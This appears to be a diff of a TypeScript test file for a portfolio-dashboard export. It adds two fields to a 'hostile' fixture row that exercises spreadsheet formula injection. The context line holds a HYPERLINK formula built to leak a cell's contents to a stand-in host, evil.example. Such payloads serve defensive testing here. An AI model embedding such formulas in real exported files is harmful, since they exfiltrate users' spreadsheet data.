@@ -18,7 +18,7 @@ const FORMULAS = ['=1+HYPERLINK("https://evil.example/?leak="&A1,"Click")', '-1+
 function hostileRow(name: string, title: string): PortfolioRow {
   return {
     projectKey: 'EVIL', projectName: name, computedAt: '2026-11-20T08:00:00.000Z', score: 55, trafficLight: 'red', notAssessed: [],
-    reliabilityTrend: [0.5], readyRunwaySprints: 1, top10Overlap: 0.5, technicalInterleaving: 0.5,
+    reliabilityTrend: [0.5], readyRunwaySprints: 1, top10Overlap: 0.5, technicalInterleaving: 0.5, throughputPerWeek: 2, nearTermDoneBy85: null,
     topSignals: [{ id: 'unfinished-sprints', severity: 'critical', title }],
     refreshedNightly: true, refresh: { state: 'idle', progress: null, message: null, startedAt: null, finishedAt: null },
   };
